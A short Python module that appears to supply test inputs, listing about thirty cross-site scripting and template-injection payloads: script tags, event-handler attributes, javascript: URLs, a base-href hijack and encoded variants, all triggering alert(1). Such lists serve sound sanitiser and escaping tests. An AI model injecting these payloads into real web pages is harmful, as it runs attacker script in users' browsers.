"""Words that become code where a page takes them for markup."""

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "\"><svg onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "'-alert(1)-'",
    "</title><script>alert(1)</script>", "${alert(1)}", "<iframe srcdoc='<script>alert(1)'>",
    "&lt;script&gt;alert(1)",
]

# The same in other places of a page: attributes, styles, comments, addresses, templates, other codings.
MORE_HOSTILE = HOSTILE + [
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<math><mi xlink:href=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<style>@import 'javascript:alert(1)'</style>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=javascript:alert(1)><button>",
    "<template><img src=x onerror=alert(1)></template>", "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>", "\u202e<img src=x onerror=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)", "`${alert(1)}`", "<svg><animate onbegin=alert(1) attributeName=x>",
]
